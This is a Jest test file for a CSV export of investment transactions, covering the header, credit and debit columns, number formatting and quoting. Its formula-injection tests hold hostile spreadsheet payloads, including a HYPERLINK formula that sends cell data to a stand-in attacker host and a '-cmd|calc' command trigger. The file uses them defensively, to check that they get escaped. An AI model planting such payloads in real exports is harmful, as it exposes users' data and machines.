import { describe, expect, test } from '@jest/globals';
import Papa from 'papaparse';
import type { ListedTransaction } from './listed-transactions.ts';
import { transactionsCsv } from './transactions-csv.ts';

function transaction(changes: Partial<ListedTransaction> = {}): ListedTransaction {
  return {
    id: 1,
    planstring: 'HB-ISA-1',
    planLabel: 'Alex’s ISA',
    transactionDate: '2026-03-01',
    kind: 'purchase',
    holding: 'Global Equity',
    isin: 'GB00B3X7QG63',
    units: 10.5,
    value: -1234.5,
    performance: false,
    ...changes,
  };
}

/** The file as a spreadsheet would read it, without its header. */
function readBack(...transactions: ListedTransaction[]): string[][] {
  return Papa.parse<string[]>(transactionsCsv(transactions).slice(1)).data.slice(1);
}
const holdingOf = (holding: string) => readBack(transaction({ holding }))[0]?.[4];

test('begins with the byte order mark and a header that names the currency; lines end in CRLF', () => {
  expect(transactionsCsv([transaction()])).toBe(
    '\uFEFFDate,Plan,Plan reference,Kind,Holding,ISIN,Units,Credit (GBP),Debit (GBP),External flow\r\n' +
      '2026-03-01,Alex’s ISA,HB-ISA-1,Bought,Global Equity,GB00B3X7QG63,10.5,,1234.50,no',
  );
});

test('[R192] a positive value is credit, a negative one debit', () => {
  const rows = readBack(transaction({ value: 20, performance: true }), transaction({ value: -0.1 }));
  expect(rows.map((row) => row.slice(7))).toEqual([
    ['20.00', '', 'yes'],
    ['', '0.10', 'no'],
  ]);
});

describe('what could be a formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=1+1',
    '+1 and more',
    '@SUM(A1:A9)',
    '-1+1',
    '\t=1+1',
    '\r=1+1',
    '\tplain',
    ' =1+1',
    '＝1+1',
    '+1',
    '-cmd|calc',
  ])('%j stays text, and comes back whole', (hostile) => {
    expect(holdingOf(hostile)).toBe(`'${hostile}`);
  });

  test('is escaped in the name of a plan too', () => {
    expect(readBack(transaction({ planLabel: '=A1' }))[0]?.[1]).toBe("'=A1");
  });

  test('no cell of a file made of hostile texts begins with a sign that starts one', () => {
    const cells = readBack(transaction({ holding: '=1', planLabel: '@x', isin: '+x' })).flat();
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
  });
});

test('negative units stay a number, and no number is written with an exponent or separators', () => {
  const units = [-1234567.25, 0.0000001, 1e15].map((count) => readBack(transaction({ units: count }))[0]?.[6]);
  expect(units).toEqual(['-1234567.25', '0.0000001', '1000000000000000']);
});

test.each(['Fund "A", accumulation', 'two\nlines', 'Łódź – 日本', 'ends with a space '])(
  '%j comes back as it was',
  (holding) => {
    expect(holdingOf(holding)).toBe(holding);
  },
);

test('money alone leaves holding, ISIN and units empty', () => {
  expect(readBack(transaction({ holding: null, isin: null, units: null }))[0]?.slice(4, 7)).toEqual(['', '', '']);
});
